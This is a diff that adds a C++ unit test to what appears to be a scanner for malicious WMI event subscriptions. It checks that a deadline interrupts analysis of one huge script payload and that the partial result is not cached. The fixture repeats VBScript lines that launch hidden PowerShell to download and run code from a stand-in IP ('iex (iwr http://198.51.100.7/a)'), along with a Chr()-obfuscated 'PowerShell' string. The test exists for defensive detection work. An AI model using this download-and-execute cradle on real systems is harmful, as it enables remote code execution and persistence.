@@ -108,6 +108,41 @@ TEST_CASE("the cancel flag stops a scan between entries and before payload analy
     CHECK(stopped.payload(stopped.entries()[0])->indicators.empty());
 }
 
+TEST_CASE("a deadline stops the analysis of one huge payload inside it, and the engine does not keep the partial one") {
+    // 2 MiB of VBScript that launches PowerShell, downloads and writes files: minutes of work
+    // without a stop would be hidden behind one consumer.
+    std::string script;
+    const char* lines[] = {"Set sh = CreateObject(\"WScript.Shell\")\r\n",
+                           "sh.Run \"powershell -nop -w hidden -c iex (iwr http://198.51.100.7/a)\", 0\r\n",
+                           "x = Chr(80) & Chr(111) & \"wer\" & \"Shell\" ' http://198.51.100.9/b\r\n"};
+    for (std::size_t i = 0; script.size() < (std::size_t{2} << 20); ++i) script += lines[i % 3];
+    mock_collector source;
+    source.filter("F", process_query).script_consumer("Huge", script).bind("F", "Huge", "ActiveScriptEventConsumer");
+    auto snap = source.collect({});
+    REQUIRE(snap);
+    const engine e;
+    bool stopped_inside = false;
+    for (auto budget = std::chrono::microseconds(100); budget < std::chrono::seconds(120) && !stopped_inside; budget *= 2) {
+        scanner s(e);
+        s.set_deadline(std::chrono::steady_clock::now() + budget);
+        const subscription_graph graph = s.build_graph(*snap);
+        REQUIRE(graph.entries().size() == 1);
+        const auto payload = graph.payload(graph.entries()[0]);
+        REQUIRE(payload);
+        if (!graph.interrupted()) break;  // the whole analysis fit in the budget
+        if (payload->interrupted && !payload->indicators.empty()) {
+            stopped_inside = true;  // stopped during the analysis, with what it had found by then
+            CHECK(payload->truncated);
+        }
+    }
+    CHECK(stopped_inside);
+    // Without a deadline the same engine analyses the payload whole: the partial analysis was not cached.
+    scanner unbounded(e);
+    const subscription_graph whole = unbounded.build_graph(*snap);
+    CHECK_FALSE(whole.interrupted());
+    CHECK_FALSE(whole.payload(whole.entries()[0])->interrupted);
+}
+
 TEST_CASE("a deadline in the past stops graph and scan, returning what was done") {
     const engine e;
     scanner s(e);
